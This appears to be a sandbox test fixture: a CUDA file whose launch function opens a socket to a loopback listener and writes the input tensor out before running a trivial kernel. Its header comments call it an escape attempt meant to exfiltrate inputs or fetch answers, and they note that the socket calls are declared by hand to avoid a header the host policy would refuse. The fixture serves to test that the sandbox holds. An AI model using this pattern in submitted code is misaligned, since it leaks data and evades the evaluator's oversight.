// Escape: connect to a listener on the host's loopback (exfiltrate inputs, fetch answers).
// Socket calls are declared by hand (no header the host policy would refuse).
// Expected: no socket in the runner (seccomp) and no host network (namespace): the listener
// the test opens gets no connection.
#include <cuda_runtime.h>
#include <stdint.h>
extern "C" int socket(int, int, int);
extern "C" int connect(int, const void*, unsigned);
extern "C" long write(int, const void*, unsigned long);
struct in_addr4 { uint16_t family; uint16_t port; uint32_t addr; char zero[8]; };
__global__ void k(const float* x, float* y, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = 2.0f * x[i];
}
extern "C" int launch(const float* x, float* y, int n, cudaStream_t s) {
  int fd = socket(2, 1, 0);  // AF_INET, SOCK_STREAM
  if (fd >= 0) {
    in_addr4 a = {2, (uint16_t)((@PORT@ >> 8) | ((@PORT@ & 0xff) << 8)), 0x0100007fu, {0}};
    if (connect(fd, &a, sizeof a) == 0) write(fd, x, n * sizeof(float));
  }
  k<<<(n + 255) / 256, 256, 0, s>>>(x, y, n);
  return 0;
}
